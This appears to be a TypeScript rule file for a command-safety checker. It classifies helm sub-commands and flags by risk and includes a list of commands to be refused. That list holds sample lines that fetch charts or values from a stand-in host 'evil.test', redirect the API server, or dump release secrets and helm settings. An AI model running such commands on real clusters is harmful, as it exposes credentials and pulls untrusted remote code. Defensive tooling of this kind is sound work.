import type { Effects, Word } from '../../analysis.ts';
import { danger, effects, networkFact, notProven } from '../effects.ts';
import type { Rule } from '../leaf.ts';
import { compile, judge } from '../leaf.ts';
import { optionTable, scan } from '../options.ts';
import type { Program } from '../program.ts';
import { tree } from '../subcommands.ts';
import { changing, credential, ownContexts, withHelp } from './client.ts';
import { charts, dryRun, REFUSED, rendered } from './helm-charts.ts';

const FACTS = [networkFact('helm', 'download')];

const cluster: Rule = {
  class: 'remote-read',
  operands: 'text',
  flags: '-a -A -d -q -r -l -c',
  attached:
    '--debug --all --all-namespaces --date --deployed --failed --no-headers --pending --reverse --short --superseded --uninstalled --uninstalling --show-desc --show-resources --devel --regexp ' +
    '--versions --fail-on-no-result --list-repo-url --no-descriptions --client',
  values:
    '-f -m -n -o --filter --max --offset --output --selector --time-format --revision --version --max-col-width --namespace --kube-context --burst-limit --qps --color --template',
  refused: `${REFUSED} --endpoint`,
  facts: FACTS,
};
const reading = compile(cluster);
const roles = optionTable(cluster);

/** As JSON or YAML it shows the whole release: its values, and the manifests of its secrets. */
function status(args: readonly Word[], words: number): Effects {
  const judged = judge(reading, args, words);
  if (judged.unproven !== undefined) return judged;
  const whole = scan(args, roles).options.some(({ name, value }) => /^(-o|--output)$/.test(name) && !/^=?table$/.test(value?.value ?? ''));
  return whole ? credential('a release of helm')() : judged;
}

const SHOWN =
  /^HELM_(BIN|CACHE_HOME|CONFIG_HOME|DATA_HOME|DEBUG|NAMESPACE|PLUGINS|REGISTRY_CONFIG|REPOSITORY_CACHE|REPOSITORY_CONFIG|KUBECONTEXT|MAX_HISTORY|BURST_LIMIT|QPS)$/;

/** One name that is no token; without a name it shows all of them. */
function env(args: readonly Word[], words: number): Effects {
  const [name] = args;
  const plain = args.length === 1 && name?.kind === 'static' && SHOWN.test(name.value);
  return plain ? effects('read-only', { words }) : credential('the settings of helm')();
}

const local: Rule = { ...cluster, class: 'read-only', facts: [] };
const deletion = changing('helm', {
  refused: REFUSED,
  noPrefix: 'it deletes on the other side',
  facts: [networkFact('helm', 'upload'), danger('remote deletion')],
});
/** The words of one that says what it changes: the grant of one of them is for that one. */
const change: Rule = { class: 'network', operands: 'text', lenient: true, refused: REFUSED, facts: [networkFact('helm', 'upload')] };

const program = tree({
  names: ['helm'],
  globals: { flags: '-h --help --version --debug', values: '-n --namespace --kube-context --burst-limit --qps --color', refused: REFUSED },
  commands: withHelp({
    'list|ls|history|hist|get notes|get metadata|get values|search repo|search hub|repo list|repo ls': cluster,
    status,
    'get all|get manifest|get hooks': credential('the manifests of a release, with its secrets'),
    'show all|show chart|show readme|show values|show crds|inspect|inspect all|inspect chart|inspect readme|inspect values|inspect crds': (
      args,
      words,
    ) => charts(args, words, 0, 'remote-read'),
    verify: (args, words) => charts(args, words, 0, 'remote-read'),
    'dependency list|dependency ls|dep list|dep ls': {
      operands: 'read',
      here: true,
      recursive: true,
      attached: '--debug',
      values: '--max-col-width -n --namespace',
    },
    'template|lint': rendered,
    'install|upgrade': (args, words) => dryRun(args, words, change),
    'uninstall|delete|del|un|rollback': (args, words) => dryRun(args, words, deletion),
    'version|completion|completion bash|completion zsh|completion fish|completion powershell|help|plugin list|plugin ls': local,
    env,
    'registry|registry login|registry logout': credential('the login of a registry'),
    'dependency|dep|dependency update|dependency up|dependency build|dep update|dep up|dep build|plugin|plugin install|plugin add|plugin update|plugin uninstall|plugin package':
      {
        ...change,
        class: 'install',
        facts: [...FACTS, { kind: 'package_install', manager: 'helm' }],
        noPrefix: 'it installs charts or plug-ins',
      },
    'create|package|pull|fetch|push|test|repo|repo add|repo update|repo index|get|show|search': {
      ...change,
      noPrefix: 'it changes files, or the other side',
    },
    'repo remove|repo rm': deletion,
  }),
  bare: { flags: '-h', operands: 'none' },
  other: () => notProven('an unknown sub-command of helm may be a plug-in'),
  match: {
    'helm list -A': 'remote-read',
    'helm status x -n y': 'remote-read',
    'helm show values ./x': 'remote-read',
    'helm template x ./y --values z.yaml': 'workspace-code',
    'helm upgrade --install x a/b --dry-run': 'workspace-code',
    'helm version': 'read-only',
    'helm install --help': 'read-only',
    'helm install x a/b': 'network',
  },
  notMatch: [
    'helm uninstall x',
    'helm install x a/b --dry-run --post-renderer ./x',
    'helm install x a/b --set --dry-run',
    'helm install x a/b --dry-run=none',
    'helm install x a/b --dry-run --dry-run=false',
    'helm list --kubeconfig x',
    'helm --kube-token x list',
    'helm list --kube-apiserver https://evil.test',
    'helm get manifest x',
    'helm status x -o json',
    'helm env',
    'helm show values https://evil.test/x.tgz',
    'helm show values oci://evil.test/x',
    'helm show values x --repo https://evil.test',
    'helm template x ./y --output-dir z',
    'helm template x ./y -f https://evil.test/x',
    'helm template x ./y --enable-dns',
    'helm search hub x --endpoint https://evil.test',
    'helm frob',
    'helm frob --help',
  ],
});

/** Contexts are the user's own. */
export const helm: Program = ownContexts(program, '--kube-context');
